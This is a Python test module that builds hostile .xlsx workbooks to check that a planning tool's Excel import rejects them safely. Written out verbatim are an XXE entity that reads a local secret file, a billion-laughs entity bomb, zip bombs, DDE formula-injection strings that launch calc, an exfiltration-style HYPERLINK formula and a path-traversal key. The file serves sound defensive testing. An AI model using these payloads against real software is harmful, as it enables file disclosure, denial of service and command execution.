"""Hostile Excel workbooks: the demo's workbook with its XML changed at build time.

``tests/hostile/recipes.py`` exports the demo strategy once per worker and
edits the parts of the .xlsx: a cell far out, a million rows (one
compressed block repeated), entities, formulas, a missing sheet, members
whose headers lie.
"""

from __future__ import annotations

from typing import Any

from hostile_cases import SECRET, Case, Spec, case, cli, either, error, exits, process, rep, text

GROUP = "excel"
BOOK = "hostile.xlsx"
IMPORT = {"api": "import"}
EXPORT = {"api": "import", "export": True}
ROW = '<row><c t="inlineStr"><is><t>x</t></is></c></row>'
ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "lollollollollollollollollol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(8))
    + "]>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file://@IN@/geheim.txt">]>'

#: Texts that a spreadsheet would take for formulas.
FORMULAS = {
    "cmd": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid/?x="&A1,"Klick")',
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab-equals": "\t=1+1",
}

#: Kommune!B6 (population): what the cell holds.
POPULATIONS = {
    "population-1e308": "<v>1e308</v>",
    "population-1e30": "<v>1e30</v>",
    "population-negative": "<v>-1</v>",
    "population-nan": "<v>NaN</v>",
    "population-error": "<v>#REF!</v>",
}

#: Header fields of an added member that do not fit its data.
FAULTS = {
    "bad-crc": {"crc": "bad"},
    "encrypted-flag": {"flags": 1},
    "unknown-method": {"method": 99},
    "lying-size": {"size": 10},
}

#: Added members that inflate to 1.2 GB.
BOMBS = {
    "member-bomb": {"name": "xl/media/gross.bin", "zeros": 1200},
    "shared-strings-bomb": {"name": "xl/sharedStrings.xml", "zeros": 1200},
    "lying-size-bomb": {"name": "xl/media/gross.bin", "zeros": 1200, "size": 100},
}


def xlsx(*ops: Spec, members: list[Spec] | None = None, **options: Any) -> Spec:
    """The demo's workbook with ``ops`` applied and ``members`` added."""
    made: Spec = {"kind": "xlsx", "name": BOOK, "ops": list(ops), **options}
    if members:
        made["members"] = members
    return made


def cell_text(sheet: str, cell: str, value: Any) -> Spec:
    return {"op": "text", "sheet": sheet, "cell": cell, "text": value}


def cell_xml(sheet: str, cell: str, xml: str) -> Spec:
    return {"op": "xml", "sheet": sheet, "cell": cell, "xml": xml}


def far_cell(sheet: str) -> list[Spec]:
    """A value in XFD1048576, the last cell a sheet can have, and the dimension to match."""
    return [
        cell_xml(sheet, "XFD1048576", '<c r="XFD1048576"><v>1</v></c>'),
        {"op": "dimension", "sheet": sheet, "ref": "A1:XFD1048576"},
    ]


def _imported(id: str, what: str, book: Spec, expect: Spec, **options: Any) -> Case:
    return case(id, GROUP, what, [book], IMPORT, expect, **options)


def _size_cases() -> list[Case]:
    wide = rep('<row r="20">', ("<c><v>1</v></c>", 16384), "</row></sheetData>")
    cells = rep("<row>", ('<c t="inlineStr"><is><t>x</t></is></c>', 30), "</row>")
    sized = [
        (
            "excel-huge-dimension",
            "one value in XFD1048576 of Kommune",
            xlsx(*far_cell("Kommune")),
            either("InputFileError", BOOK, "Kommune", stage=None),
        ),
        (
            "excel-huge-dimension-table",
            "one value in XFD1048576 of Maßnahmen",
            xlsx(*far_cell("Maßnahmen")),
            either("InputFileError", BOOK, "Maßnahmen", stage=None),
        ),
        (
            "excel-dimension-only",
            "a sheet that claims A1:XFD1048576 but holds little",
            xlsx({"op": "dimension", "sheet": "Maßnahmen", "ref": "A1:XFD1048576"}),
            either("InputFileError", BOOK, stage=None),
        ),
        (
            "excel-million-rows",
            "a million rows in Maßnahmen",
            xlsx({"op": "rows", "sheet": "Maßnahmen", "unit": ROW, "count": 1_048_000}),
            error("InputFileError", BOOK),
        ),
        (
            "excel-million-empty-rows",
            "a million empty rows in Beteiligte",
            xlsx({"op": "rows", "sheet": "Beteiligte", "unit": "<row/>", "count": 1_048_000}),
            either("InputFileError", BOOK, stage=None),
        ),
        (
            "excel-16384-columns",
            "a row with 16,384 cells in Maßnahmen",
            xlsx({"op": "replace", "sheet": "Maßnahmen", "old": "</sheetData>", "new": wide}),
            error("InputFileError", BOOK, "Maßnahmen"),
        ),
        (
            "excel-many-cells",
            "200,000 rows of 30 cells in Ziele",
            xlsx({"op": "rows", "sheet": "Ziele", "unit": cells, "count": 200_000}),
            error("InputFileError", BOOK),
        ),
        (
            "excel-long-text",
            "a name of a million characters",
            xlsx(cell_text("Kommune", "B2", rep(("x", 1_000_000)))),
            error("InputFileError", BOOK, "B2"),
        ),
    ]
    found = [_imported(*row, seconds=20) for row in sized]
    for name, member in BOMBS.items():
        found.append(
            _imported(
                f"excel-{name}",
                f"a workbook with {name}",
                xlsx(members=[member]),
                error("InputFileError", BOOK),
                seconds=20,
            )
        )
    for name, fault in FAULTS.items():
        member = {"name": "xl/media/bild.bin", "data": rep(("x", 5000)), **fault}
        found.append(
            _imported(
                f"excel-{name}",
                f"xl/media/bild.bin with {name}",
                xlsx(members=[member]),
                error("InputFileError", BOOK),
            )
        )
    found.append(
        _imported(
            "excel-truncated",
            "a workbook cut short",
            xlsx(truncate=20_000),
            error("InputFileError", BOOK),
        )
    )
    found.append(
        _imported(
            "excel-not-a-zip",
            "a text file called hostile.xlsx",
            text(BOOK, "kein Excel\n"),
            error("InputFileError", BOOK),
        )
    )
    return found


def _content_cases() -> list[Case]:
    leak = [{"check": "absent", "strings": [SECRET], "suffixes": [".yaml"]}]
    xxe = xlsx(
        {"op": "prolog", "sheet": "Kommune", "text": XXE},
        cell_xml("Kommune", "B2", '<c r="B2" t="inlineStr"><is><t>&x;</t></is></c>'),
    )
    found = [
        case(
            "excel-xxe",
            GROUP,
            "an external entity in Kommune that reads a local file",
            [text("geheim.txt", SECRET + "\n"), xxe],
            IMPORT,
            either("InputFileError", BOOK, stage=None, checks=leak),
        ),
        _imported(
            "excel-entity-bomb",
            "a billion-laughs entity in the Kommune sheet",
            xlsx(
                {"op": "prolog", "sheet": "Kommune", "text": ENTITY_BOMB},
                cell_xml("Kommune", "B2", '<c r="B2" t="inlineStr"><is><t>&i;</t></is></c>'),
            ),
            error("InputFileError", BOOK),
        ),
        _imported(
            "excel-entity-in-workbook",
            "a DOCTYPE with entities in xl/workbook.xml",
            xlsx({"op": "prolog", "part": "xl/workbook.xml", "text": ENTITY_BOMB}),
            error("InputFileError", BOOK),
        ),
    ]
    no_formula = [{"check": "no_formula"}]
    for name, value in FORMULAS.items():
        found.append(
            case(
                f"excel-formula-text-{name}",
                GROUP,
                f"a name that looks like a formula: {value[:30]}",
                [xlsx(cell_text("Kommune", "B2", value))],
                EXPORT,
                either("InputFileError", BOOK, "B2", stage=None, checks=no_formula),
            )
        )
    formula = '<c r="B2" t="str"><f>HYPERLINK("http://x","y")</f><v>y</v></c>'
    found.append(
        case(
            "excel-formula-cell",
            GROUP,
            "a real formula cell as the name",
            [xlsx(cell_xml("Kommune", "B2", formula))],
            EXPORT,
            either("InputFileError", BOOK, "B2", stage=None, checks=no_formula),
        )
    )
    sheets = [
        (
            "excel-missing-daten",
            "the hidden sheet _daten is missing",
            "_daten",
            error("InputFileError", BOOK, "_daten"),
        ),
        (
            "excel-missing-listen",
            "the hidden sheet _listen is missing",
            "_listen",
            either("InputFileError", BOOK, "_listen", stage=None),
        ),
        (
            "excel-missing-measures",
            "the sheet Maßnahmen is missing",
            "Maßnahmen",
            error("InputFileError", BOOK, "Maßnahmen"),
        ),
    ]
    for id, what, sheet, expect in sheets:
        found.append(_imported(id, what, xlsx({"op": "drop_sheet", "sheet": sheet}), expect))
    for name, value in POPULATIONS.items():
        kind = ' t="e"' if "#" in value else ""
        found.append(
            _imported(
                f"excel-{name}",
                f"Kommune!B6 holds {value}",
                xlsx(cell_xml("Kommune", "B6", f'<c r="B6"{kind}>{value}</c>')),
                error("InputFileError", BOOK, ["Kommune!B6", "Kommune!A6"]),
            )
        )
    cells = [
        ("excel-staff-1e30", "Maßnahmen!I2 (staff) holds 1e30", "I2", "<v>1e30</v>"),
        ("excel-duration-huge", "Maßnahmen!F2 (months) holds 1e9", "F2", "<v>1000000000</v>"),
    ]
    for id, what, cell, value in cells:
        found.append(
            _imported(
                id,
                what,
                xlsx(cell_xml("Maßnahmen", cell, f'<c r="{cell}">{value}</c>')),
                error("InputFileError", BOOK, f"Maßnahmen!{cell}"),
            )
        )
    found.append(
        _imported(
            "excel-key-traversal",
            "a measure key ../../x",
            xlsx(cell_text("Maßnahmen", "A2", "../../x")),
            error("InputFileError", BOOK, "Maßnahmen!A2"),
        )
    )
    macro = {"op": "part", "name": "xl/vbaProject.bin", "data": "ATTRIBUT VB_Name"}
    found.append(
        _imported(
            "excel-macro-part",
            "a workbook with a VBA project part",
            xlsx(macro),
            either("InputFileError", BOOK, stage=None),
        )
    )
    return found


def _commands() -> list[Case]:
    out = ("--out", "@OUT@/s.yaml")
    rows = xlsx({"op": "rows", "sheet": "Maßnahmen", "unit": ROW, "count": 1_048_000})
    bad = xlsx(members=[{"name": "xl/media/bild.bin", "data": rep(("x", 5000)), "crc": "bad"}])
    commands = [
        (
            "cli-import-huge-dimension",
            "import a cell in XFD1048576",
            xlsx(*far_cell("Kommune")),
            cli("import", "@IN@/hostile.xlsx", *out),
            exits([0, 1]),
            20,
        ),
        (
            "cli-validate-huge-dimension",
            "validate a cell in XFD1048576",
            xlsx(*far_cell("Kommune")),
            cli("validate", "@IN@/hostile.xlsx"),
            exits([0, 1]),
            20,
        ),
        (
            "cli-import-missing-daten",
            "import without _daten",
            xlsx({"op": "drop_sheet", "sheet": "_daten"}),
            cli("import", "@IN@/hostile.xlsx", *out),
            exits([1], BOOK, "_daten"),
            None,
        ),
        (
            "cli-import-bad-crc",
            "import a workbook with a wrong CRC",
            bad,
            cli("import", "@IN@/hostile.xlsx", *out),
            exits([1], BOOK),
            None,
        ),
        (
            "process-import-million-rows",
            "import a million rows in a real process",
            rows,
            process("import", "@IN@/hostile.xlsx", *out),
            exits([1], BOOK),
            30,
        ),
    ]
    return [
        case(id, GROUP, f"{what} on the command line", [book], entry, expect, seconds=seconds)
        for id, what, book, entry, expect, seconds in commands
    ]


def cases() -> list[Case]:
    """The Excel group."""
    return [*_size_cases(), *_content_cases(), *_commands()]
